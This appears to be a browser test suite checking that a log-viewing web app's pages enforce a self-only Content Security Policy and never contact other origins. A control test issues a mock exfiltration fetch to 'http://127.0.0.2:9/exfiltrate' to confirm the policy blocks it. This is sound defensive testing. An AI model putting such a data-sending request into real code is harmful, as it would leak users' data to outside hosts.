// Imported logs must never leave the browser: every page carries a CSP that only allows our own origin, the app
// never asks another origin for anything, and it doesn't trip its own policy.
import { afterAll, beforeAll, expect, test } from 'vitest';
import {
	clickNavLink,
	collectErrors,
	cspMeta,
	launch,
	navLinks,
	screenshot,
	serve,
	watchRequests,
	type Server,
	type Session
} from './harness';

let server: Server;
let session: Session;

beforeAll(async () => {
	server = await serve();
	// Without the service worker, every page and asset comes from the server, so each one's own CSP is checked.
	session = await launch({ serviceWorkers: 'block' });
});

afterAll(async () => {
	await session?.close();
	await server?.close();
});

function shotName(url: string): string {
	const path = new URL(url).pathname.replace(/^\/|\/$/g, '');
	return `csp-${path.replace(/[^a-z0-9]+/gi, '-') || 'home'}`;
}

test('every page in the nav has a strict CSP, stays on our origin and violates nothing', async () => {
	const { context, page } = session;
	const watch = await watchRequests(context, server.origin);
	const errors = collectErrors(page);

	await page.goto(server.url);
	await page.locator('h1').first().waitFor({ state: 'visible' });
	const links = await navLinks(page);
	expect(links).toContain(server.url);

	// Full page loads: each prerendered page has its own <meta> policy.
	for (const link of links) {
		await page.goto(link, { waitUntil: 'networkidle' });
		await page.locator('h1').first().waitFor({ state: 'visible' });
		const csp = await cspMeta(page);
		expect(csp, `CSP meta on ${link}`).not.toBeNull();
		expect(csp!['default-src'], `default-src on ${link}`).toEqual(["'self'"]);
		expect(csp!['connect-src'], `connect-src on ${link}`).toEqual(["'self'"]);
		await screenshot(page, shotName(link));
	}

	// Client-side navigation through the nav, as a user would.
	await page.goto(server.url, { waitUntil: 'networkidle' });
	for (const link of links) {
		await clickNavLink(page, link);
		await page.waitForURL(link);
		await page.locator('h1').first().waitFor({ state: 'visible' });
		await page.waitForLoadState('networkidle');
	}

	expect(watch.foreign, 'requests to other origins').toEqual([]);
	expect(watch.violations, 'CSP violations').toEqual([]);
	expect(errors, 'uncaught page errors').toEqual([]);
});

test('the watcher sees a blocked request to another origin (control)', async () => {
	const context = await session.browser.newContext({ serviceWorkers: 'block' });
	try {
		const watch = await watchRequests(context, server.origin);
		const page = await context.newPage();
		await page.goto(server.url);
		// 127.0.0.2 is another origin that nothing listens on; connect-src 'self' must stop the fetch.
		const outcome = await page.evaluate(() =>
			fetch('http://127.0.0.2:9/exfiltrate').then(
				() => 'sent',
				() => 'blocked'
			)
		);
		expect(outcome).toBe('blocked');
		await expect.poll(() => watch.violations.length).toBeGreaterThan(0);
		expect(watch.violations.join('\n')).toMatch(/connect-src/);
	} finally {
		await context.close();
	}
});
